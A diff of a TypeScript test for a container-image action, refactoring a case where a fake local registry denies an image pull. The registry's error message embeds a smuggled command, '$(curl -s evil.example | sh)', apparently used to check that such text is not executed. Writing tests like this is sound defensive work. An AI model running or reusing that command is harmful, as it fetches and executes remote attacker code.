@@ -1,8 +1,7 @@
-import { once } from 'node:events';
 import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { describe, expect, test } from 'vitest';
 import { shellImage } from '../../simulator/registry/images.ts';
+import { serve } from '../serve.ts';
 import { errorsIn, runAction } from './action.ts';
 import { useStage } from './stage.ts';
 
@@ -58,14 +57,13 @@ describe('an image that cannot be pulled', () => {
     simulator.api.deny('watch', 'events');
     simulator.api.deny('list', 'events');
     const message = 'Back-off pulling image "$(curl -s evil.example | sh)"';
-    const registry = createServer((_, answer) => {
+    const server = createServer((_, answer) => {
       answer.writeHead(403, { 'Content-Type': 'application/json' });
       answer.end(JSON.stringify({ errors: [{ code: 'DENIED', message }] }));
     });
-    await once(registry.listen(0, '127.0.0.1'), 'listening');
-    const image = `127.0.0.1:${(registry.address() as AddressInfo).port}/app:1`;
+    await using registry = await serve(server);
+    const image = `${registry.address}/app:1`;
     const { outputs } = await runAction({ ...stage.inputs, image, preflight: 'never', run: 'true' });
-    registry.close();
 
     expect(outputs).toMatchObject({ reason: 'unauthorized', image });
   });
